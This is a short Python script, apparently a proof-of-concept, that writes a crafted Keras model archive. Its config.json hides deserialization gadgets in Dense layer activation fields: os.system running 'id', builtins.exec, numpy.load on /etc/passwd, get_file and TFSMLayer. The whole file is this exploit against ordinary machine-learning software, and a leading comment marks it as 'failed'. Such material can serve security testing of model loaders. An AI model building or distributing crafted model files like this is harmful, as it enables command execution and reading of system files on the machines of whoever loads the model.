# failed: a configuration names a function of the system, which is called
import json
import zipfile

GADGETS = [("builtins", "function", "exec"), ("os", "system", {"command": "id"}),
           ("keras.src.utils.file_utils", "get_file", {}),
           ("keras.layers", "TFSMLayer", {"filepath": "/evidence"}),
           ("numpy", "load", {"file": "/etc/passwd"})]  # fmt: skip
layers = [{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 784]}}]
for module, name, config in GADGETS:
    gadget = {"module": module, "class_name": name, "config": config, "registered_name": name}
    layers.append(
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {"units": 300, "use_bias": True, "activation": gadget},
        }
    )
with zipfile.ZipFile("/evidence/model.keras", "w") as archive:
    archive.writestr(
        "config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": layers}})
    )
